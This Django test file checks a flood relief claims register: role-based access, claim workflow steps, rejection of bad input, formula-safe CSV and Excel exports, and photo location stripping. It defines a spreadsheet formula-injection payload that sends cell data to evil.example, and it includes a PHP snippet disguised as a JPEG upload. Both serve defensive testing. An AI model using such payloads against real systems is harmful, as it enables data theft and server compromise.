"""The relief register's pages: who may open and act, the steps by form, the exports read back."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

from layers.models import PersonalDataAccess
from layers.relief.models import ClaimStatus, ReliefClaimPersonal, ReliefClaimPhoto, ReliefRate
from tests.layers.test_relief import damaged_buildings, demo_event, file_claim
from tests.security.test_report_photos import assert_bare, jpeg_with_location

NST = "nakhon-si-thammarat"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'


def url(name: str, **kwargs) -> str:
    return reverse(name, kwargs={"code": NST, **kwargs})


def client_for(username: str) -> Client:
    client = Client(HTTP_HOST="127.0.0.1")
    client.force_login(get_user_model().objects.get(username=username))
    return client


@pytest.fixture(autouse=True)
def thai():
    with translation.override("th"):
        yield


@pytest.fixture
def claim(nst):
    return file_claim(nst)


READERS = ["nst-disaster", "nst-approver", "nst-finance", "nst-admin"]
OTHERS = ["nst-viewer", "nst-planner", "nst-health", "nst-editor"]
PAGES = [
    "flood-relief-claims",
    "flood-relief-rates",
    "flood-relief-summary",
    "flood-relief-print",
]


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize("username", READERS)
def test_relief_roles_open_the_register(db, claim, name, username):
    assert client_for(username).get(url(name)).status_code == 200


@pytest.mark.parametrize("name", [*PAGES, "flood-relief-claim-new"])
@pytest.mark.parametrize("username", OTHERS)
def test_other_roles_are_refused(db, claim, name, username):
    assert client_for(username).get(url(name)).status_code == 403


@pytest.mark.parametrize("username", OTHERS)
def test_other_roles_cannot_open_a_claim(db, claim, username):
    response = client_for(username).get(url("flood-relief-claim", claim_id=claim.pk))

    assert response.status_code == 403
    assert "สมศรี" not in response.content.decode()


@pytest.mark.parametrize(
    ("username", "status"),
    [("nst-disaster", 200), ("nst-admin", 200), ("nst-approver", 403), ("nst-finance", 403)],
)
def test_only_preparers_open_the_new_claim_form(db, username, status):
    assert client_for(username).get(url("flood-relief-claim-new")).status_code == status


def test_claim_page_shows_the_claimant_and_logs_the_read(db, claim):
    before = PersonalDataAccess.objects.filter(case_ref=claim.pk, purpose="relief").count()

    page = client_for("nst-finance").get(url("flood-relief-claim", claim_id=claim.pk))

    assert "นางสมศรี ทดสอบ" in page.content.decode()
    log = PersonalDataAccess.objects.filter(case_ref=claim.pk, purpose="relief")
    assert log.count() == before + 1
    assert log.first().username == "nst-finance"


def test_list_shows_no_names(db, claim):
    page = client_for("nst-disaster").get(url("flood-relief-claims"))

    assert page.status_code == 200
    assert f'data-claim="{claim.pk}"' in page.content.decode()
    assert "สมศรี" not in page.content.decode()


def test_filing_by_form_then_the_whole_way_to_paid(db, nst):
    building_id = damaged_buildings(nst, demo_event(nst), 1)[0][0]
    officer, approver, finance = (client_for(u) for u in READERS[:3])
    filed = officer.post(
        url("flood-relief-claim-new"),
        {
            "building": building_id,
            "full_name": "นายมานะ ใจดี",
            "national_id": "1101700230708",
            "item_house": "on",
            "detail_house": "ผนังบ้านชั้นล่าง",
        },
    )
    assert filed.status_code == 302
    claim_url = filed["Location"]
    assert officer.post(claim_url, {"step": "survey", "amount_house": "12000"}).status_code == 302
    today = timezone.localdate().isoformat()
    approved = approver.post(
        claim_url, {"step": "approve", "meeting_date": today, "amount_house": "12000"}
    )
    assert approved.status_code == 302
    paid = finance.post(
        claim_url,
        {"step": "pay", "amount_baht": "12000", "paid_on": today, "method": "transfer"},
    )
    assert paid.status_code == 302
    page = finance.get(claim_url).content.decode()
    assert 'data-status="paid"' in page
    assert "12,000.00" in page


def test_a_step_by_the_wrong_role_is_403_and_changes_nothing(db, claim):
    claim_url = url("flood-relief-claim", claim_id=claim.pk)
    surveyed = {"step": "survey", "amount_house": "1", "amount_belongings": "1"}

    assert client_for("nst-finance").post(claim_url, surveyed).status_code == 403
    assert client_for("nst-approver").post(claim_url, surveyed).status_code == 403
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.FILED


@pytest.mark.parametrize(
    "data",
    [
        {"step": "survey", "amount_house": "-5", "amount_belongings": "1"},
        {"step": "survey", "amount_house": "abc", "amount_belongings": "1"},
        {"step": "survey", "amount_house": "1e400", "amount_belongings": "1"},
        {"step": "survey", "amount_house": "NaN", "amount_belongings": "1"},
        {"step": "survey", "amount_house": "1"},
        {"step": "teleport"},
        {"step": "survey\x00", "amount_house": "1", "amount_belongings": "1"},
    ],
)
def test_hostile_step_input_is_a_400(db, claim, data):
    response = client_for("nst-disaster").post(url("flood-relief-claim", claim_id=claim.pk), data)

    assert response.status_code == 400
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.FILED


def test_refused_approval_says_why_with_400(db, claim):
    claim_url = url("flood-relief-claim", claim_id=claim.pk)
    client_for("nst-disaster").post(
        claim_url, {"step": "survey", "amount_house": "50000", "amount_belongings": "3000"}
    )

    response = client_for("nst-approver").post(
        claim_url,
        {
            "step": "approve",
            "meeting_date": timezone.localdate().isoformat(),
            "amount_house": "40000",
            "amount_belongings": "3000",
        },
    )

    assert response.status_code == 400
    assert "30,000.00" in response.content.decode()
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.SURVEYED


def test_unknown_event_is_a_400(db):
    response = client_for("nst-disaster").get(url("flood-relief-claims") + "?event=ไม่มี")

    assert response.status_code == 400


def test_rates_page_says_the_demo_rates_are_examples(db):
    page = client_for("nst-approver").get(url("flood-relief-rates")).content.decode()

    assert 'id="relief-example-rates"' in page
    assert "ไม่ใช่อัตราทางราชการ" in page


def test_only_the_administrator_enters_rates(db, nst):
    data = {
        "item": "crops",
        "unit": "ไร่",
        "amount_baht": "1340",
        "cap_baht": "40000",
        "document_ref": "หนังสือกรมบัญชีกลาง ที่ กค 0406.4/ว 999",
    }
    before = ReliefRate.objects.filter(municipality=nst).count()

    assert client_for("nst-disaster").post(url("flood-relief-rates"), data).status_code == 403
    assert client_for("nst-approver").post(url("flood-relief-rates"), data).status_code == 403
    assert ReliefRate.objects.filter(municipality=nst).count() == before
    assert client_for("nst-admin").post(url("flood-relief-rates"), data).status_code == 302
    page = client_for("nst-admin").get(url("flood-relief-rates")).content.decode()
    assert "กค 0406.4/ว 999" in page


def test_rate_without_document_reference_is_refused(db, nst):
    data = {"item": "crops", "unit": "ไร่", "amount_baht": "1", "cap_baht": "1"}

    response = client_for("nst-admin").post(url("flood-relief-rates"), data)

    assert response.status_code == 400


def _export_claims(nst):
    claim = file_claim(nst)
    personal = ReliefClaimPersonal.objects.get(claim=claim)
    personal.full_name = HOSTILE_NAME
    personal.save()
    return claim, file_claim(nst)


def test_csv_export_has_a_bom_thai_and_escaped_formulas(db, nst):
    hostile, thai = _export_claims(nst)

    response = client_for("nst-approver").get(url("flood-relief-claims") + "?format=csv")

    assert response.status_code == 200
    body = response.content
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][0] == "เลขที่คำร้อง"
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id[str(thai.pk)][5] == "นางสมศรี ทดสอบ"
    assert by_id[str(hostile.pk)][5] == "'" + HOSTILE_NAME
    assert by_id[str(thai.pk)][2] == "ยื่นคำร้อง"
    logged = PersonalDataAccess.objects.filter(purpose="relief", case_ref=thai.pk)
    assert logged.filter(username="nst-approver").exists()


def test_excel_export_reads_back_with_thai_and_no_formula(db, nst):
    hostile, thai = _export_claims(nst)

    response = client_for("nst-finance").get(url("flood-relief-claims") + "?format=xlsx")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book.active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "เลขที่คำร้อง"
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id[thai.pk][5] == "นางสมศรี ทดสอบ"
    assert by_id[hostile.pk][5] == "'" + HOSTILE_NAME
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert isinstance(by_id[thai.pk][7], float)
    assert Decimal(str(by_id[thai.pk][7])) > 0


def test_print_page_is_a4_with_page_numbers(db, claim):
    page = client_for("nst-approver").get(url("flood-relief-print"))

    assert page.status_code == 200
    assert "relief-print.css" in page.content.decode()
    assert "นางสมศรี ทดสอบ" in page.content.decode()


def test_summary_counts_the_claim_in_its_subdistrict(db, claim):
    page = client_for("nst-approver").get(url("flood-relief-summary")).content.decode()

    assert f'data-subdistrict="{claim.subdistrict_code}"' in page


def test_filter_and_search(db, nst, claim):
    officer = client_for("nst-disaster")

    by_status = officer.get(url("flood-relief-claims") + "?status=paid").content.decode()
    by_id = officer.get(url("flood-relief-claims") + "?q=1101700230708").content.decode()

    assert f'data-claim="{claim.pk}"' not in by_status
    assert f'data-claim="{claim.pk}"' in by_id
    assert officer.get(url("flood-relief-claims") + "?status=lost").status_code == 400
    assert officer.get(url("flood-relief-claims") + "?page=0").status_code == 400


def test_photo_upload_is_stored_without_location(db, claim, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    upload = SimpleUploadedFile("field.jpg", jpeg_with_location(), content_type="image/jpeg")

    response = client_for("nst-disaster").post(
        url("flood-relief-claim", claim_id=claim.pk), {"step": "photo", "photo": upload}
    )

    assert response.status_code == 302
    photo = ReliefClaimPhoto.objects.get(claim=claim)
    assert_bare((tmp_path / photo.stored_name).read_bytes())
    served = client_for("nst-finance").get(
        url("flood-relief-photo", claim_id=claim.pk, photo_id=photo.pk)
    )
    assert served.status_code == 200
    assert_bare(b"".join(served.streaming_content))
    viewer = client_for("nst-viewer").get(
        url("flood-relief-photo", claim_id=claim.pk, photo_id=photo.pk)
    )
    assert viewer.status_code == 403


def test_a_file_that_is_not_a_photo_is_a_400(db, claim, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    upload = SimpleUploadedFile("x.jpg", b"<?php echo 1; ?>", content_type="image/jpeg")

    response = client_for("nst-disaster").post(
        url("flood-relief-claim", claim_id=claim.pk), {"step": "photo", "photo": upload}
    )

    assert response.status_code == 400
    assert not ReliefClaimPhoto.objects.filter(claim=claim).exists()
    assert not list(tmp_path.rglob("*.jpg"))


def test_aid_list_links_the_household_to_its_claim(db, nst, claim):
    page = client_for("nst-disaster").get(reverse("flood-aid-priority", kwargs={"code": NST}))

    assert url("flood-relief-claim", claim_id=claim.pk) in page.content.decode()


def test_aid_list_has_no_relief_links_for_the_editor(db, nst, claim):
    page = client_for("nst-editor").get(reverse("flood-aid-priority", kwargs={"code": NST}))

    assert page.status_code == 200
    assert "/flood/relief/" not in page.content.decode()


def test_a_data_subject_export_includes_the_persons_relief_claims(db, nst):
    claim = file_claim(nst)
    other = file_claim(nst, national_id="3100600123450")

    response = client_for("nst-admin").post(
        reverse("data-subject-requests", kwargs={"code": NST}),
        {"national_id": "1101700230708", "action": "export", "confirm": "on"},
    )

    data = json.loads(response.content)
    claims = {r["claim"]["number"]: r for r in data["relief_claims"]}
    assert claim.pk in claims
    assert other.pk not in claims
    assert claims[claim.pk]["personal"]["full_name"] == "นางสมศรี ทดสอบ"
    assert {i["item"] for i in claims[claim.pk]["items"]} == {"house", "belongings"}
    assert PersonalDataAccess.objects.filter(
        purpose="data_subject_request", case_ref=claim.pk, fields__startswith="relief claim"
    ).exists()
